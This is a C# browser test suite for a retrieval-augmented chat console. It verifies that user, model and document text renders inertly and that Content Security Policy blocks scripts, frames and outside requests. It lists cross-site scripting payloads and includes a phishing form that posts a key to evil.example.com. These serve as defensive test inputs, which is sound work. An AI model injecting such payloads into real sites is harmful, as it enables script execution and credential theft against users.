using RealtimeRag.Core.Answers;

namespace RealtimeRag.BrowserTests;

/// <summary>Whatever comes from a speaker, a document, a model or a file is text: it runs nothing, loads nothing and looks like nothing else.</summary>
public sealed class SafetyTests(Browser browser)
{
    private const string Active = "a[href^='javascript:'], a[href^='data:'], a[href^='vbscript:'], img, script, iframe, object, embed, form, input, style, svg, math, video, audio, base, meta, link, [style], [onerror], [onload], [onclick]";

    public static TheoryData<string> Attacks =>
    [
        "<img src=x onerror=\"window.hacked=1\">",
        "<script>window.hacked=1</script>",
        "<svg><script>window.hacked=1</script></svg>",
        "<svg/onload=window.hacked=1>",
        "<iframe srcdoc=\"<script>parent.hacked=1</script>\"></iframe>",
        "[press](javascript:window.hacked=1) <a href=\"jav&#x09;ascript:window.hacked=1\">press</a>",
        "![shot](https://tracker.example.com/pixel.png) <a href=\"data:text/html,<script>window.hacked=1</script>\">press</a>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.hacked=1&gt;\">",
        "<form action=https://evil.example.com><input name=key><button>Sign in</button></form>",
        "<style>*{display:none}</style><div style=\"position:fixed;inset:0\" id=content class=composer>over all</div>",
        "${window.hacked=1} {{constructor.constructor('window.hacked=1')()}} `<b onclick=window.hacked=1>`",
    ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public async Task It_is_harmless_wherever_it_comes_from(string attack)
    {
        await using var server = await ConsoleServer.StartAsync(("SPECULATION", "0"));
        await using var console = await ConsolePage.OpenAsync(browser, server.Page);
        await console.StateAsync("open");
        await console.Words.FillAsync(attack);
        await console.DoAsync("ask");
        var call = await server.Source.NextAsync();
        call.Say(attack, "\n\n" + attack);
        call.Happen(new AnswerEvent.Cited([new(1, attack, attack, 1, "javascript:window.hacked=1"), new(2, attack, attack, 1, "https://example.com/" + attack)]));
        call.Happen(new AnswerEvent.Suggested([attack]));
        call.Complete();
        await Expect(console.Outcome).ToHaveTextAsync("Complete");
        await Expect(console.Page.Locator("rag-answer header .question")).ToHaveTextAsync(attack);
        foreach (var summary in await console.Page.Locator("summary").AllAsync())
        {
            await summary.ClickAsync();
        }

        await SpokenTalkTests.DropAsync(console.Page, attack + ".jsonl", "{\"text\":5}");
        await Expect(console.Page.Locator("rag-composer .failure")).ToContainTextAsync(attack);

        await Expect(console.Page.Locator("rag-log").Locator(Active)).ToHaveCountAsync(0);
        var protocols = await console.Page.Locator("rag-log a[href]").EvaluateAllAsync<string[]>("links => links.map(link => link.protocol)");
        Assert.All(protocols, static protocol => Assert.Contains(protocol, new[] { "http:", "https:", "mailto:" }));
        Assert.Equal(0, await console.Page.EvaluateAsync<int>("window.hacked ?? 0"));
        Assert.Equal("content", await console.Page.EvaluateAsync<string>("document.querySelector('main').id"));
        await Expect(console.Page.Locator("#content")).ToHaveCountAsync(1);
    }

    [Theory(Timeout = 120_000)]
    [InlineData("require-trusted-types-for", "e => { e.textContent = 'window.hacked = 1'; }", "script")]
    [InlineData("require-trusted-types-for", "e => e.setAttribute('onclick', 'window.hacked = 1')", "p")]
    [InlineData("img-src", "e => { e.src = 'https://example.com/x.png'; }", "img")]
    [InlineData("style-src-attr", "e => e.setAttribute('style', 'color: red')", "p")]
    [InlineData("connect-src", "e => fetch('https://example.com/').catch(() => {})", "p")]
    [InlineData("connect-src", "e => { new WebSocket('wss://example.com/'); }", "p")]
    [InlineData("require-trusted-types-for", "e => { e.innerHTML = '<b>new</b>'; }", "p")]
    [InlineData("frame-src", "e => { e.src = 'https://example.com/'; }", "iframe")]
    public async Task The_browser_keeps_the_page_from_what_it_does_not_need(string directive, string act, string element)
    {
        await using var server = await ConsoleServer.StartAsync();
        await using var console = await ConsolePage.OpenAsync(browser, server.Page);
        await console.StateAsync("open");
        foreach (var refusal in new[] { "Content Security Policy", "TrustedScript", "TrustedHTML", "request: https://example.com", "chrome-error://" })
        {
            console.ExpectFault(refusal);
        }

        var violated = await console.Page.EvaluateAsync<string>(
            $$"""
            name => new Promise(done => {
              addEventListener("securitypolicyviolation", event => done(event.effectiveDirective), { once: true });
              const e = document.createElement(name);
              try { ({{act}})(e); } catch { }
              document.body.append(e);
            })
            """,
            element).WaitAsync(TestContext.Current.CancellationToken);
        Assert.Equal(directive, violated);
        Assert.Equal(0, await console.Page.EvaluateAsync<int>("window.hacked ?? 0"));
    }

    [Fact]
    public async Task An_address_ends_before_the_Chinese_that_follows_it()
    {
        await using var server = await ConsoleServer.StartAsync();
        await using var console = await ConsolePage.OpenAsync(browser, server.Page);
        await console.SayAsync("What is the default port?");
        var call = await server.Source.NextAsync();
        call.Say("见https://docs.example.com/guide?a=1，其中有说明。又见 https://example.com/x。完");
        call.Complete();
        await Expect(console.Answer.Locator("a")).ToHaveTextAsync(["https://docs.example.com/guide?a=1", "https://example.com/x"]);
        await Expect(console.Answer).ToHaveTextAsync("见https://docs.example.com/guide?a=1，其中有说明。又见 https://example.com/x。完");
    }
}
